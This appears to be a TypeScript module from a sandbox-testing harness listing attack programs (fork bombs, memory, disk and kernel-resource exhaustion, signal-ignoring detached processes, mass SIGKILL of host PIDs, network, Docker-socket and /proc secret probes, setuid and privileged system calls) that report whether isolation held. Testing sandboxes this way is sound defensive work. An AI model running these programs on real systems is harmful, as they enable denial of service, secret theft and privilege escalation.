import type { Arena } from './arena.ts';
import type { Sources } from './subject.ts';

/**
 * Programs of attackers. A line `BREACH what` says what got through, a line `HELD what` what stood in the way; a program that prints
 * neither is judged by how it ended and by what the host sees.
 */
export interface AttackProgram {
  readonly name: string;
  /** What holds it where the program is not killed and says nothing itself. */
  readonly heldBy: string;
  /** It can be tried only where programs start others. */
  readonly forks?: boolean;
  /** What it is given to read. */
  readonly stdin?: string;
  readonly sources: (arena: Arena, mark: string) => Sources;
}

const python = (...lines: readonly string[]): string => `${lines.join('\n')}\n`;

/** As a literal of Python and JavaScript alike. */
const literal = (value: unknown): string => JSON.stringify(value);

const trying = (title: string, ...lines: readonly string[]): string =>
  python(
    'try:',
    ...lines.map((line) => `  ${line}`),
    'except BaseException as error:',
    `  print("HELD ${title}:", type(error).__name__, getattr(error, "errno", "") or "", flush=True)`,
  );

const exhaustion: readonly AttackProgram[] = [
  {
    name: 'fork bomb',
    heldBy: 'fork fails',
    forks: true,
    sources: () => ({
      python: python('import os', 'while True:', '  try: os.fork()', '  except OSError: pass'),
      shell: 'bomb() { bomb | bomb & }; while :; do bomb; done 2>/dev/null\n',
    }),
  },
  {
    name: 'threads without end',
    heldBy: 'threads cannot be started',
    forks: true,
    sources: () => ({
      python: python(
        'import threading, time',
        'count = 0',
        'while count < 5000:',
        '  threading.Thread(target=time.sleep, args=(60,), daemon=True).start()',
        '  count += 1',
        'print("BREACH 5000 threads", flush=True)',
      ),
    }),
  },
  {
    name: 'memory bomb',
    heldBy: 'memory cannot be had',
    sources: () => ({
      python: python(
        'kept = []',
        'while len(kept) < 4000: kept.append(bytearray(b"x") * 10000000)',
        'print("BREACH 40 GB", flush=True)',
      ),
      javascript:
        'const kept = []; for (let i = 0; i < 40000; i += 1) kept.push(new Array(100000).fill(i + 0.5)); console.log("BREACH 32 GB");',
    }),
  },
  {
    name: 'memory bomb over many processes',
    heldBy: 'memory cannot be had',
    forks: true,
    sources: () => ({
      python: python(
        'import os, time',
        'for child in range(16):',
        '  if os.fork() == 0: break',
        'kept = bytearray(b"x") * 200000000',
        'time.sleep(1)',
        'open("survived", "a").write("x")',
        'time.sleep(0.5)',
        'if os.path.getsize("survived") == 17: print("BREACH 3.4 GB", flush=True)',
      ),
    }),
  },
  {
    name: 'memory mapped and shared',
    heldBy: 'memory cannot be had',
    sources: () => ({
      python: python(
        'import mmap',
        'kept = []',
        'for turn in range(200):',
        '  area = mmap.mmap(-1, 20000000)',
        '  area.write(b"x" * 20000000)',
        '  kept.append(area)',
        'print("BREACH 4 GB", flush=True)',
      ),
    }),
  },
  {
    name: "the kernel's memory in queues",
    heldBy: 'the system call is refused',
    forks: true,
    sources: () => ({
      python: python(
        'import ctypes, os, time',
        'libc = ctypes.CDLL(None, use_errno=True)',
        'message = ctypes.create_string_buffer(8 + 8192); message[0] = b"\\x01"',
        'held = 0',
        'while held < 480000000:',
        '  queue = libc.msgget(0, 0o600)', // IPC_PRIVATE
        '  if queue < 0: print("HELD msgget:", os.strerror(ctypes.get_errno()), flush=True); break',
        '  while libc.msgsnd(queue, message, 8192, 0o4000) == 0: held += 8192', // IPC_NOWAIT
        'else: print("BREACH 480 MB in queues", flush=True)',
        'time.sleep(0.5)',
      ),
    }),
  },
  {
    name: "the kernel's memory in sockets",
    heldBy: 'the limit on files that are open',
    forks: true,
    sources: () => ({
      python: python(
        'import os, socket, time',
        'for child in range(15):',
        '  if os.fork() == 0: break',
        'kept = []; held = 0',
        'try:',
        '  while held < 40000000:',
        '    pair = socket.socketpair(); kept.append(pair)',
        '    for end in pair:',
        '      end.setblocking(False)',
        '      try:',
        '        while True: held += end.send(b"x" * 65536)',
        '      except BlockingIOError: pass',
        '  open("survived", "a").write("x")',
        'except OSError: pass',
        'time.sleep(1)',
        'if os.path.exists("survived") and os.path.getsize("survived") == 16: print("BREACH 640 MB in sockets", flush=True)',
      ),
    }),
  },
  {
    name: "the kernel's memory in tables of pages",
    heldBy: 'memory cannot be had',
    forks: true,
    sources: () => ({
      python: python(
        'import ctypes, time',
        'libc = ctypes.CDLL(None)',
        'libc.mmap.restype = ctypes.c_void_p',
        'libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]',
        'size = 2**38',
        'area = libc.mmap(None, size, 1, 0x4022, -1, 0)', // to be read alone, private, of no file, without reserve
        'libc.madvise(ctypes.c_void_p(area), ctypes.c_size_t(size), 15)', // no huge pages
        'for at in range(0, size, 2**21): ctypes.c_char.from_address(area + at).value',
        'time.sleep(0.5)',
        'print("BREACH 512 MB of tables", flush=True)',
      ),
    }),
  },
  {
    name: 'asynchronous input and output of the whole machine',
    heldBy: 'the system call is refused',
    forks: true,
    sources: () => ({
      python: python(
        'import ctypes, os, platform',
        'libc = ctypes.CDLL(None, use_errno=True)',
        'number = 206 if platform.machine() == "x86_64" else 0', // io_setup, whose rooms the kernel counts for all users together (fs.aio-max-nr)
        'room = ctypes.c_ulong(0)',
        'if libc.syscall(number, 64, ctypes.byref(room)) == 0: print("BREACH it is counted for all users together", flush=True)',
        'else: print("HELD io_setup:", os.strerror(ctypes.get_errno()), flush=True)',
      ),
    }),
  },
  {
    name: 'disk filling',
    heldBy: 'no space left',
    sources: () => ({
      python: python(
        'import os',
        'total = 0',
        'for place in [".", "/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/", "/usr", "/proc", "/sys", "/home", "/mnt"]:',
        '  try:',
        '    for number in range(60):', // many files, each below what one file may have
        '      with open(os.path.join(place, f"fill{number}"), "wb") as file:',
        '        for turn in range(5):',
        '          file.write(b"x" * 1000000); file.flush(); total += 1',
        '          if total == 100: print("BREACH 100 MB written", flush=True)',
        '  except OSError as error: print("HELD", place, error.strerror, flush=True)',
      ),
      shell:
        'for place in . /tmp /dev/shm /dev /run /; do dd if=/dev/zero of=$place/fill bs=1000000 count=300 2>/dev/null && echo BREACH $place; done\n',
    }),
  },
  {
    name: 'disk filling by what it is given to read',
    heldBy: 'it cannot be written',
    stdin: 'given',
    sources: () => ({
      python: python(
        'import os',
        'for place in ["/proc/self/fd/0", "/dev/stdin", "/dev/fd/0"]:',
        '  for way in (os.O_RDWR, os.O_WRONLY, os.O_WRONLY | os.O_APPEND):',
        '    try: os.fchmod(0, 0o777)',
        '    except OSError: pass',
        '    try:',
        '      stream = os.open(place, way | os.O_NONBLOCK)', // a pipe takes what it holds and no more
        '      for turn in range(12): os.write(stream, b"x" * 1000000)', // beside what the limit counts
        '      print("BREACH 12 MB in", place, flush=True)',
        '    except OSError as error: print("HELD", place, error.strerror, flush=True)',
      ),
    }),
  },
  {
    name: 'a million files',
    heldBy: 'no more files',
    sources: () => ({
      python: python(
        'import os',
        'made = 0',
        'for place in [".", "/tmp", "/dev/shm"]:',
        '  try:',
        '    for number in range(1000000):',
        '      os.close(os.open(f"{place}/{number}", os.O_CREAT | os.O_WRONLY)); made += 1',
        '  except OSError as error: print("HELD", place, error.strerror, flush=True)',
        'if made >= 1000000: print("BREACH", made, "files", flush=True)',
      ),
    }),
  },
  {
    name: 'huge file names and deep folders',
    heldBy: 'the file system',
    sources: () => ({
      python: python(
        'import os',
        'try: open("n" * 5000, "w")',
        'except OSError as error: print("HELD name:", error.strerror, flush=True)',
        'depth = 0',
        'try:',
        '  while depth < 20000:',
        '    os.mkdir("d" * 200); os.chdir("d" * 200); depth += 1',
        'except OSError as error: print("HELD depth:", error.strerror, flush=True)',
      ),
    }),
  },
  {
    name: 'output flood',
    heldBy: 'the limit on output',
    sources: () => ({
      python: python(
        'import sys',
        'for turn in range(10**7): sys.stdout.write("x" * 1000); sys.stderr.write("y" * 1000)',
        'open("survived", "w")',
      ),
      javascript: 'for (let i = 0; i < 1e7; i += 1) console.log("x".repeat(1000));',
    }),
  },
  {
    name: 'endless loop that ignores signals',
    heldBy: 'the wall clock',
    sources: () => ({
      python: python(
        'import signal',
        'for number in range(1, 65):',
        '  try: signal.signal(number, signal.SIG_IGN)',
        '  except (OSError, ValueError): pass',
        'while True: pass',
      ),
      javascript: 'for (;;) { try { for (;;); } catch {} }',
      shell: "trap '' HUP INT TERM QUIT XCPU USR1 USR2 ALRM PIPE\nwhile :; do :; done\n",
    }),
  },
];

const getaways: readonly AttackProgram[] = [
  {
    name: 'detached grandchildren',
    heldBy: 'they die with the call',
    forks: true,
    sources: (_arena, mark) => ({
      python: python(
        'import os, subprocess, sys',
        'for kind in range(4):',
        '  if os.fork() == 0:',
        '    os.setsid()',
        '    if os.fork() == 0:',
        '      for stream in range(3): os.close(stream)',
        `      os.execvp("python3", ["python3", "-c", "import signal, time; [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 13, 15)]; time.sleep(600)", "${mark}-left"])`,
        '    os._exit(0)',
        'print("ready")',
      ),
      shell: `for n in 1 2 3; do (setsid sh -c 'trap "" HUP TERM; sleep 600' ${mark}-left </dev/null >/dev/null 2>&1 &); done\n`,
    }),
  },
  {
    name: 'signals to host processes',
    heldBy: 'they cannot be seen',
    forks: true,
    sources: ({ victim }) => ({
      python: python(
        'import os, signal',
        'if os.fork() == 0:',
        `  for pid in [${victim}, *range(2, 70000)]:`,
        '    if pid == os.getpid() or pid == os.getppid(): continue',
        '    try: os.kill(pid, signal.SIGKILL)',
        '    except OSError: pass',
        '  os._exit(0)',
        'os.wait()',
        'signal.signal(15, signal.SIG_IGN)',
        'os.kill(-1, 9)',
      ),
    }),
  },
];

const network: readonly AttackProgram[] = [
  {
    name: 'outbound TCP',
    heldBy: 'no network',
    sources: ({ addresses, tcpPort }) => ({
      python: python(
        'import socket',
        ...addresses.map((address) =>
          trying(
            address,
            `socket.create_connection(("${address}", ${tcpPort}), timeout=2).close()`,
            `print("BREACH connected to", "${address}", flush=True)`,
          ),
        ),
        trying(
          '93.184.216.34',
          'socket.create_connection(("93.184.216.34", 80), timeout=2)',
          'print("BREACH outside", flush=True)',
        ),
      ),
      javascript: `for (const host of ${literal(addresses)}) require("net").connect(${tcpPort}, host).on("connect", () => console.log("BREACH " + host)).on("error", (e) => console.log("HELD " + e.code));`,
    }),
  },
  {
    name: 'outbound UDP',
    heldBy: 'no network',
    sources: ({ addresses, udpPort }) => ({
      python: python(
        'import socket',
        ...addresses.map((address) =>
          trying(
            address,
            's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
            `for turn in range(3): s.sendto(b"out", ("${address}", ${udpPort}))`,
          ),
        ),
        'import time',
        'time.sleep(0.1)',
      ),
    }),
  },
  {
    name: 'DNS',
    heldBy: 'no resolver',
    sources: () => ({
      python: python(
        'import socket',
        ...['example.com', 'localhost.localdomain', 'example.org'].map((name) =>
          trying(name, `print("BREACH", "${name}", socket.getaddrinfo("${name}", 80), flush=True)`),
        ),
      ),
    }),
  },
  {
    name: 'other socket families',
    heldBy: 'sockets of that kind cannot be made',
    sources: () => ({
      python: python(
        'import socket',
        trying(
          'vsock',
          's = socket.socket(40, socket.SOCK_STREAM); s.settimeout(2)',
          's.connect((2, 1024))',
          'print("BREACH vsock connected", flush=True)',
        ),
        trying(
          'vsock family',
          'socket.socket(40, socket.SOCK_STREAM)',
          'print("BREACH a vsock can be made, which knows no network namespace", flush=True)',
        ),
        trying('packet', 'socket.socket(17, socket.SOCK_RAW)', 'print("BREACH packet", flush=True)'),
        trying('raw', 'socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)', 'print("BREACH raw", flush=True)'),
        trying(
          'crypto',
          'socket.socket(38, socket.SOCK_SEQPACKET)',
          'print("BREACH AF_ALG reaches the kernel\'s ciphers", flush=True)',
        ),
      ),
    }),
  },
  {
    name: "the host's Unix sockets, named and abstract",
    heldBy: 'they cannot be seen',
    sources: ({ socketPath, abstractName }) => ({
      python: python(
        'import socket',
        ...[
          literal(socketPath),
          `"\\0" + ${literal(abstractName)}`,
          '"/run/dbus/system_bus_socket"',
          '"/run/systemd/private"',
        ].map((place) =>
          trying(
            place.replaceAll('"', '').replace('\\0', 'abstract'),
            's = socket.socket(socket.AF_UNIX)',
            `s.connect(${place})`,
            'print("BREACH connected", flush=True)',
          ),
        ),
      ),
    }),
  },
  {
    name: 'Docker socket',
    heldBy: 'it cannot be seen',
    sources: () => ({
      python: python(
        'import socket',
        ...[
          '/var/run/docker.sock',
          '/run/docker.sock',
          '/run/containerd/containerd.sock',
          '/run/podman/podman.sock',
        ].map((place) =>
          trying(
            place,
            's = socket.socket(socket.AF_UNIX)',
            `s.connect("${place}")`,
            'print("BREACH connected", flush=True)',
          ),
        ),
      ),
    }),
  },
];

const secrets: readonly AttackProgram[] = [
  {
    name: 'host files',
    heldBy: 'they are not there',
    sources: ({ digests }) => ({
      python: python(
        'import hashlib, os',
        `digests = ${literal(digests)}`,
        'for place, digest in digests.items():',
        '  for way in [place, "/proc/1/root" + place, "/proc/self/root" + place, "/proc/self/cwd/../../../../.." + place]:',
        '    try:',
        '      content = "\\n".join(sorted(os.listdir(way))).encode() if os.path.isdir(way) else open(way, "rb").read()',
        '      if hashlib.sha256(content).hexdigest() == digest: print("BREACH read", way, flush=True)',
        '    except OSError as error: pass',
        `for place in ["/usr", "/usr/bin", "/etc", "/root", ${literal(
          Object.keys(digests)
            .at(-1)
            ?.replace(/\/secret$/, '') ?? '/srv',
        )}]:`,
        '  try:',
        '    open(place + "/cairn-intruder", "w").write("x")',
        '    print("BREACH wrote into", place, flush=True)',
        '  except OSError: pass',
      ),
      javascript: `const fs = require("fs"), { createHash } = require("crypto");
for (const [place, digest] of Object.entries(${literal(digests)})) {
  try { if (createHash("sha256").update(fs.readFileSync(place)).digest("hex") === digest) console.log("BREACH read " + place); } catch {}
}`,
    }),
  },
  {
    name: '/proc and environment secrets',
    heldBy: 'only its own processes are in /proc',
    sources: ({ canary }) => ({
      python: python(
        'import os, glob',
        `canary = ${literal(canary.split('').toReversed().join(''))}[::-1].encode()`,
        'for place in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ") + glob.glob("/proc/[0-9]*/cmdline"):',
        '  try:',
        '    if canary in open(place, "rb").read(): print("BREACH", place, flush=True)',
        '  except OSError: pass',
        'if canary in repr(dict(os.environ)).encode(): print("BREACH own environment", flush=True)',
        'for place in ["/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/vda", "/dev/sda", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/dev/kmsg"]:',
        '  for mode in [os.O_RDONLY, os.O_WRONLY]:',
        '    if mode == os.O_RDONLY and place.startswith("/proc/sys"): continue',
        '    try:',
        '      fd = os.open(place, mode)',
        '      print("BREACH opened", place, flush=True)',
        '    except OSError: pass',
      ),
    }),
  },
  {
    name: 'descriptors left open',
    heldBy: 'none but the streams',
    sources: () => ({
      python: python(
        'import os',
        'for name in os.listdir("/proc/self/fd"):',
        '  try: target = os.readlink("/proc/self/fd/" + name)',
        '  except OSError: continue',
        '  if int(name) > 2 and target != "/dev/null": print("BREACH descriptor", name, target, flush=True)',
      ),
    }),
  },
  {
    name: 'taking the pseudo-terminals of the machine',
    heldBy: 'there are none',
    sources: () => ({
      // a few are enough to show it, and leave the machine its own
      python: ['/dev/ptmx', '/dev/pts/ptmx']
        .map((place) =>
          trying(
            place,
            'import os',
            `kept = [os.open(${literal(place)}, os.O_RDWR | os.O_NOCTTY) for turn in range(16)]`,
            `print("BREACH 16 of", ${literal(place)}, flush=True)`,
          ),
        )
        .join(''),
    }),
  },
];

/** Calls of the system by their numbers on x86-64 and arm64, with their words. What succeeds got through. */
const systemCalls = {
  ptrace: [
    'ptrace',
    [
      [101, 117, 16, 1, 0, 0],
      [310, 270, 1, 0, 0, 0],
    ],
  ],
  mount: [
    'mount, pivot_root, chroot, swapon',
    [
      [165, 40, '"none"', '"/tmp"', '"tmpfs"', 0],
      [155, 41, '"/tmp"', '"/tmp"', 0, 0],
      [161, 51, '"/tmp"', 0, 0, 0],
      [428, 428, -100, '"/"', 1, 0],
    ],
  ],
  namespaces: [
    'unshare and clone with new namespaces',
    [
      [272, 97, 0x10000000, 0, 0, 0],
      [272, 97, 0x20000, 0, 0, 0],
      [272, 97, 0x40000000, 0, 0, 0],
      [56, 220, 0x10000011, 0, 0, 0],
    ],
  ],
  kernel: [
    'keyctl, bpf, perf, userfaultfd, io_uring, kexec',
    [
      [250, 219, 0, -3, 1, 0], // keyctl: the session's ring
      [248, 217, '"user"', '"cairn"', '"x"', 1], // add_key
      [321, 280, 0, 'zeros', 72, 0], // bpf
      [298, 241, 'zeros', 0, -1, -1], // perf_event_open
      [323, 282, 1, 0, 0, 0], // userfaultfd
      [425, 425, 4, 'zeros', 0, 0], // io_uring_setup
      [246, 104, 0, 0, 0, 0], // kexec_load
      [304, 265, -100, 'zeros', 0, 0], // open_by_handle_at
      [300, 262, 0, 0, 0, 0], // fanotify_init
    ],
  ],
} as const;

const callNames: Readonly<Record<number, string>> = {
  101: 'ptrace',
  310: 'process_vm_readv',
  165: 'mount',
  155: 'pivot_root',
  161: 'chroot',
  428: 'open_tree',
  272: 'unshare',
  56: 'clone',
  250: 'keyctl',
  248: 'add_key',
  321: 'bpf',
  298: 'perf_event_open',
  323: 'userfaultfd',
  425: 'io_uring_setup',
  246: 'kexec_load',
  304: 'open_by_handle_at',
  300: 'fanotify_init',
};

const callAttack = ([title, calls]: readonly [
  string,
  readonly (readonly [number, number, ...(string | number)[]])[],
]): AttackProgram => ({
  name: title,
  heldBy: 'the system call is refused',
  forks: true,
  sources: () => ({
    python: python(
      'import ctypes, os, platform',
      'libc = ctypes.CDLL(None, use_errno=True)',
      'zeros = ctypes.create_string_buffer(256)',
      'arm = platform.machine() == "aarch64"',
      'def attempt(title, call, *words):',
      '  words = [w.encode() if isinstance(w, str) else ctypes.c_long(w) if isinstance(w, int) else w for w in words]',
      '  ctypes.set_errno(0)',
      '  parent = os.getpid()',
      '  done = libc.syscall(ctypes.c_long(call), *words)',
      '  if os.getpid() != parent: os._exit(0)',
      '  if done >= 0: print("BREACH", title, flush=True)',
      '  else: print("HELD", title + ":", os.strerror(ctypes.get_errno()), flush=True)',
      ...calls.map(
        ([x86, arm, ...words]) =>
          `attempt("${callNames[x86] ?? ''}", ${arm} if arm else ${x86}, ${words.join(', ')})`,
      ),
    ),
  }),
});

const rights: readonly AttackProgram[] = [
  {
    name: 'setuid binaries',
    heldBy: 'no new privileges',
    forks: true,
    sources: () => ({
      python: python(
        'import os, glob, shutil, subprocess',
        'status = open("/proc/self/status").read()',
        'caps = [line.split()[1] for line in status.splitlines() if line.startswith("CapEff")][0]',
        'if int(caps, 16) != 0: print("BREACH capabilities", caps, flush=True)',
        'if os.getuid() == 0: print("BREACH runs as root", flush=True)',
        'shutil.copy("/usr/bin/id", "./own"); os.chmod("./own", 0o6755)',
        'if "euid=0" in subprocess.run(["./own"], capture_output=True, text=True).stdout: print("BREACH own setuid file", flush=True)',
        'for program in ["/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount", "/usr/bin/newgrp", "/bin/su"]:',
        '  if not os.path.exists(program): continue',
        '  child = subprocess.Popen([program], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
        '  try: effective = [line.split()[2] for line in open(f"/proc/{child.pid}/status").read().splitlines() if line.startswith("Uid")][0]',
        '  except (OSError, IndexError): effective = "gone"',
        '  child.kill(); child.wait()',
        '  if effective == "0": print("BREACH", program, "runs as root", flush=True)',
        'for change in [lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chown("own", 0, 0)]:',
        '  try: change(); print("BREACH changed its user", flush=True)',
        '  except OSError: pass',
      ),
    }),
  },
  callAttack(systemCalls.ptrace),
  callAttack(systemCalls.mount),
  callAttack(systemCalls.namespaces),
  callAttack(systemCalls.kernel),
];

export const attackPrograms: readonly AttackProgram[] = [
  ...exhaustion,
  ...getaways,
  ...network,
  ...secrets,
  ...rights,
];
